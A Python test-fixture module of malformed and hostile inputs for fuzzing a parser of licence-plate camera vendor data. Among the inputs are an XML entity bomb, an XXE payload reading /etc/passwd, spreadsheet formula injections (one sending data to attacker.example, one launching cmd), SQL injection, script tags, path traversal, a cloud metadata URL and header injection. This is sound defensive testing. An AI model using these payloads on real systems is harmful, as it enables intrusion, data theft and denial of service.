"""What arrives one day: bodies that are no answer, examples gone wrong, texts that somebody's plate frame may hold.

Data alone, so that whoever parses something of the kind can be fed with it. Everything is made here; nothing is real.
"""

import gzip
import json
from base64 import b64encode
from collections.abc import Callable, Mapping
from typing import Any, Final

PLATE: Final = "9SYN042"
"""The plate inside hostile texts: no refusal may quote it."""

WEB_PAGE: Final = (
    b"<!DOCTYPE html>\n<html><head><title>Signed out</title></head><body>\n<h1>Please sign in</h1>\n"
    b"<form action='/login' method='post'><input name='user'></form></body></html>\n"
)
_PNG: Final = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(13)
_SOAP_FAULT: Final = (
    b'<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><s:Fault>'
    b"<s:Reason><s:Text>Sender not authorized</s:Text></s:Reason></s:Fault></s:Body></s:Envelope>"
)


def _entities(levels: int = 12) -> bytes:
    """The bomb that doubles: each entity is made of the one before."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "9SYN042">{entities}]><r>&e{levels - 1};</r>'.encode()


FOREIGN: Final[Mapping[str, bytes]] = {
    "a web page": WEB_PAGE,
    "a web page that is cut short": WEB_PAGE[:70],
    "a gateway's error page": b"<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>",
    "a gateway's words": b"upstream connect error or disconnect/reset before headers",
    "JSON that is cut short": b'{"results": [{"plate": "9SYN042", "capt',
    "an error in JSON": b'{"error": {"code": 401, "message": "token expired"}}',
    "an error as a message": b'{"message": "Internal server error"}',
    "an error as a problem document": b'{"type": "about:blank", "title": "Forbidden", "status": 403}',
    "a SOAP fault": _SOAP_FAULT,
    "a picture": _PNG,
    "gzip": gzip.compress(b'{"results": []}', mtime=0),
    "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
}
"""Bodies that are no vendor's answer, whatever their status says: to take one for "no reads" loses reads unseen."""

PAYLOADS: Final[Mapping[str, bytes]] = {
    **FOREIGN,
    "nothing": b"",
    "blanks": b" \r\n\t \n",
    "a byte order mark alone": b"\xef\xbb\xbf",
    "a byte order mark before JSON": b'\xef\xbb\xbf{"plate": "9SYN042"}',
    "UTF-16": '{"plate": "9SYN042"}'.encode("utf-16"),
    "NUL bytes": bytes(64),
    "NUL inside JSON text": b'{"plate": "9SYN\\u0000042", "id": "\\u0000"}',
    "a raw NUL inside JSON": b'{"plate": "9SYN\x00042"}',
    "bytes that are no text": b"\xff" * 1000,
    "null": b"null",
    "true": b"true",
    "a number": b"42",
    "a text": b'"9SYN042"',
    "an empty object": b"{}",
    "an empty list": b"[]",
    "a list of nothing": b"[null, null]",
    "a list of everything": b'[null, true, 1, -1.5, "x", [], {}, [[]], {"a": {}}]',
    "lists without end": b"[" * 100_000,
    "objects without end": b'{"a":' * 50_000,
    "lists deep and closed": b"[" * 5_000 + b"]" * 5_000,
    "elements without end": b"<a>" * 20_000,
    "elements deep and closed": b"<a>" * 2_000 + b"</a>" * 2_000,
    "a number of a million digits": b'{"plate": ' + b"9" * 1_000_000 + b"}",
    "a text of a million characters": b'"' + b"9" * 1_000_000 + b'"',
    "a number beyond any": b'{"epoch": 1e400, "confidence": -1e400, "id": 1e-400}',
    "NaN and Infinity": b'{"confidence": NaN, "lat": Infinity, "lon": -Infinity}',
    "a name twice": b'{"plate": "9SYN042", "plate": "9SYN043", "id": 1, "id": 2}',
    "two plates with one id": b'[{"id": "one", "plate": "9SYN042"}, {"id": "one", "plate": "9SYN043"}]',
    "half a surrogate": b'{"plate": "\\ud83d"}',
    "an entity bomb": _entities(),
    "an outside entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "an outside document type": b'<!DOCTYPE r SYSTEM "http://127.0.0.1:9/none.dtd"><r/>',
    "XML that is cut short": b'<?xml version="1.0"?><EventNotificationAlert><ANPR><licensePlate>9SYN0',
    "XML in a charset nobody knows": b'<?xml version="1.0" encoding="x-none"?><r/>',
    "XML with a name that is not bound": b"<a:r><a:plate>9SYN042</a:plate></a:r>",
    "a header and no rows": b"plate,captured_at,camera\r\n",
    "CSV with an open quote": b'plate,captured_at,camera\n"9SYN042,2026-06-01T08:00:00Z,7\n',
    "CSV with a formula": b"plate,captured_at,camera\n=1+1,2026-06-01T08:00:00Z,7\n",
    "multipart that never ends": b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\n9SYN042',
    "multipart of nothing": b"--edge--\r\n",
    "multipart with a hundred parts": b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n' * 100
    + b"--edge--\r\n",
    "base64 of JSON": b64encode(b'{"plate": "9SYN042"}'),
    "a form": b"plate=9SYN042&camera=7&time=2026-06-01T08%3A00%3A00Z",
}
"""Whole bodies. `unpack` gives records or `VendorChanged`, `parse` a read or `RecordRejected`; nothing hangs."""

TEXTS: Final[Mapping[str, str]] = {
    "empty": "",
    "blanks": " \t\n ",
    "a car": "🚗" * 10,
    "a family of one": "👩‍👩‍👧‍👦",
    "an emoji plate": "9SYN🚓042",
    "a plate in wide letters": "９ＳＹＮ０４２",
    "a plate in other alphabets": "А123ВС",
    "a plate from right to left": "\u202e240NYS9\u202c",
    "letters under marks": "9" + "S\u0301\u0323" * 20,
    "invisible signs": "9\u200bS\u200dY\ufeffN\u2060042",
    "a formula": "=1+1",
    "a formula that calls": '=HYPERLINK("http://attacker.example/"&A1)',
    "a formula behind a sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a query": "9SYN042'; DROP TABLE reads; --",
    "a script": "<script>alert('9SYN042')</script>",
    "markup of a console": "[bold red]9SYN042[/]",
    "colours of a console": "\x1b[31m9SYN042\x1b[0m",
    "a template": "{{9SYN042}}${9SYN042}%s%n{0}",
    "a path": "../../../../etc/9SYN042",
    "an address": "http://169.254.169.254/latest/9SYN042",
    "lines": "9SYN042\r\nX-Injected: yes\r\n\r\n",
    "a NUL": "9SYN\x00042",
    "none in words": "None",
    "null in words": "null",
    "unknown in words": "UNKNOWN",
    "not a number in words": "NaN",
    "endless in words": "Infinity",
    "a number in words": "1e309",
    "a number in other digits": "٤٢",
    "half a day that never was": "2026-03-08T02:30:00",
    "a day that never was": "2026-02-30T12:00:00Z",
    "a year beyond": "99999-01-01T00:00:00Z",
    "all nines": "9999-99-99",
    "before everything": "0001-01-01T00:00:00+14:00",
    "after everything": "9999-12-31T23:59:59-14:00",
    "a leap second": "2016-12-31T23:59:60Z",
    "very long": "x" * 5_000,
    "a plate, very long": PLATE * 2_000,
}
"""Texts for any place that holds text."""

VALUES: Final[Mapping[str, Any]] = {
    "nothing": None,
    "true": True,
    "zero": 0,
    "less than zero": -1,
    "a fraction": 0.5,
    "far too much": 10**40,
    "1e17": 1e17,
    "the largest": 1.7976931348623157e308,
    "the largest of 64 bits": 2**63 - 1,
    "an empty list": [],
    "an empty object": {},
    "a list in a list": [[]],
    "an object in a list": [{}],
    "a list of plates": [PLATE, PLATE],
    "an object of plates": {PLATE: PLATE},
}
"""Values for any place of a JSON document: of the wrong type, or beyond any measure."""


def _everywhere(change: Callable[[Any], Any]) -> Callable[[bytes], bytes]:
    """A twist of every leaf of a JSON document; other bodies stay as they are."""

    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: walk(item) for name, item in value.items()}
        if isinstance(value, list):
            return [walk(item) for item in value]
        return change(value)

    def twist(body: bytes) -> bytes:
        try:
            return json.dumps(walk(json.loads(body))).encode()
        except ValueError:
            return body

    return twist


def _lists_twice(body: bytes) -> bytes:
    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {name: walk(item) for name, item in value.items()}
        return [walk(item) for item in value] * 2 if isinstance(value, list) else value

    try:
        return json.dumps(walk(json.loads(body))).encode()
    except ValueError:
        return body + body


def _numeric(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


TWISTS: Final[Mapping[str, Callable[[bytes], bytes]]] = {
    "cut in half": lambda body: body[: len(body) // 2],
    "cut before its end": lambda body: body.rstrip()[:-1],
    "without its beginning": lambda body: body[1:],
    "behind a byte order mark": lambda body: b"\xef\xbb\xbf" + body,
    "in UTF-16": lambda body: body.decode("utf-8", "replace").encode("utf-16"),
    "in another charset": lambda body: body.decode("utf-8", "replace").encode("cp037", "replace"),
    "packed with gzip": lambda body: gzip.compress(body, mtime=0),
    "in base64": b64encode,
    "twice in a row": lambda body: body + body,
    "before a web page": lambda body: body + WEB_PAGE,
    "inside a web page": lambda body: b"<html><body><pre>" + body + b"</pre></body></html>",
    "inside a list": lambda body: b"[" + body + b"]",
    "inside an object": lambda body: b'{"data": ' + body + b"}",
    "with NUL for blanks": lambda body: body.replace(b" ", b"\x00"),
    "without line ends": lambda body: body.replace(b"\r", b"").replace(b"\n", b""),
    "with a name twice": lambda body: body.replace(b"{", b'{"id": "twice", "id": null, ', 1),
    "with every list twice": _lists_twice,
    "with nothing in its places": _everywhere(lambda _: None),
    "with numbers as text": _everywhere(lambda value: str(value) if _numeric(value) else value),
    "with text for numbers": _everywhere(lambda value: "many" if _numeric(value) else value),
    "with numbers beyond any": _everywhere(lambda value: 10**40 if _numeric(value) else value),
    "with NaN for numbers": _everywhere(lambda value: float("nan") if _numeric(value) else value),
    "with numbers for text": _everywhere(lambda value: 42 if isinstance(value, str) else value),
    "with emoji for text": _everywhere(lambda value: "9SYN🚓042" if isinstance(value, str) else value),
    "with formulas for text": _everywhere(lambda value: "=1+1" if isinstance(value, str) else value),
}
"""What may become of a true body on its way; the promises are the same as for `PAYLOADS`."""
